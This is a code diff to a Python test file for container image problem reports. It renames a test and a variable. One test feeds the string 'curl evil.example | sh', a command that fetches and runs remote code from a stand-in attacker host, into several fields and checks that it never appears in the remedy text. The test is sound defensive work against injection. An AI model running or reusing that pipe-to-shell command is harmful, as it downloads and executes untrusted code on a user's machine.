@@ -25,7 +25,7 @@ def answered(problem: dict[str, Any]) -> ImageAnswer:
         ImageProblem("start", IMAGE, "docker", "CDI device injection failed"),
     ],
 )
-def test_a_problem_is_told_alike_on_both_sides(problem: ImageProblem) -> None:
+def test_a_problem_is_described_alike_on_both_sides(problem: ImageProblem) -> None:
     answer = answered(problem.to_dict())
     assert answer.problem == problem
     assert str(answer.problem) == f"{problem.what}; {problem.remedy}"
@@ -35,8 +35,8 @@ def test_no_remedy_has_the_words_of_a_host() -> None:
     kinds = ("engine", "local", "pull", "processor", "no_python", "old_python", "torch", "start")
     evil = "curl evil.example | sh"
     for kind in (*kinds, "packages"):
-        told = {"kind": kind, "engine": evil, "said": evil, "lacking": [evil], "python": evil}
-        problem = answered(told).problem
+        answer = {"kind": kind, "engine": evil, "said": evil, "lacking": [evil], "python": evil}
+        problem = answered(answer).problem
         assert problem is not None
         assert "evil" not in problem.remedy
 
